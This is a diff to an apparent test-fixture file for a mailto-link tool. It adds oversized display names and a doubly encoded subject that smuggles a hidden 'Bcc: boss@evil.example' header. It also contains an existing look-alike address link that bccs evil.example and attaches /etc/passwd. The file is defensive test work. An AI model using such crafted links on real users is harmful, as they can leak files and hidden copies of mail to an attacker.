@@ -3,7 +3,8 @@
 - LINKS: the mail-client tests' links (tests/clients): id -> (link, the compatibility cells it
   decides): several To, Cc and Bcc with user+tag@, a subject with & + % # ? = and UTF-8, a
   multi-line UTF-8 body, an IDN domain, a display name with a comma, attach=, a 10 KB body
-  (LONG_BODY), hostile addresses (issues 39 and 45) and subjects that look like options or files.
+  (LONG_BODY), hostile addresses (issues 39 and 45), names past readers' limits and a subject
+  that decodes again (hostile-limits), and subjects that look like options or files.
 - HOMOGRAPH, BCC_ONLY, BCC_INVOICE, PLAIN: what mailtokit asks about (a look-alike address with a
   hidden copy and an attachment; a hidden copy alone; one with a subject) and a link it opens unasked.
 - DISPLAY_NAME: an address with a display name holding a comma, percent-encoded.
@@ -11,6 +12,7 @@
 
 from __future__ import annotations
 
+import base64
 from urllib.parse import quote
 
 HOMOGRAPH = "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd"
@@ -34,6 +36,17 @@ def _pct(s: str) -> str:
 
 
 LONG_BODY = _long_body()
+
+
+def _long_name(size: int) -> str:
+    """A plain display name of `size` bytes: letters and single spaces."""
+    words = ("Payroll", "Department", "of", "Acme", "Community", "Services")
+    out = ""
+    i = 0
+    while len(out) < size:
+        out += ("" if not out else " ") + words[i % len(words)]
+        i += 1
+    return out[:size].rstrip() + "x" * (size - len(out[:size].rstrip()))
 
 # id -> (link, the compatibility cells this link decides)
 LINKS: dict[str, tuple[str, list[str]]] = {
@@ -88,6 +101,17 @@ LINKS: dict[str, tuple[str, list[str]]] = {
                        "boss%40evil.example%40corp.example"
                        "&bcc=%22Doe%2C%20John%22%20%3Cj%40corp.example%3E,Boss%20Man%20boss%40evil.example,x%40%5B1.2.3.4"
                        "&subject=syntax", ["Hostile addresses"]),
+    # Readers' limits and a subject decoded again: plain names of 1,004, 1,300 and 1,649 bytes,
+    # past which mutt cut "<payroll@acme.community>" to "payroll@acme.com" (NeoMutt dropped the
+    # recipient), are handed over without them; a subject whose text is an encoded word (sent
+    # encoded once more, so it reads as that text) that Thunderbird decoded into "Invoice" and a
+    # line "Bcc: boss@evil.example" reaches every program defused (a space after "=").
+    "hostile-limits": ("mailto:?to=" + _pct('"' + _long_name(1004) + '" <payroll@acme.community>') +
+                       "&cc=" + _pct('"' + _long_name(1300) + '" <c@acme.community>') +
+                       "&bcc=" + _pct('"' + _long_name(1649) + '" <spy@acme.community>') +
+                       "&subject=%3D%3Futf-8%3Fb%3F" +
+                       _pct(base64.b64encode(b"=?utf-8?q?Invoice=0ABcc:=20boss@evil.example?=").decode()) + "%3F%3D",
+                       ["Hostile addresses", "Subject specials"]),
     # A literal "=?" in a subject reaches the program as typed; an option-like subject stays a
     # subject (KMail read --subject=ession as -session); a subject ending like a file name is no
     # file to open (Thunderbird's content handler takes .ics, .msf, ... as files).
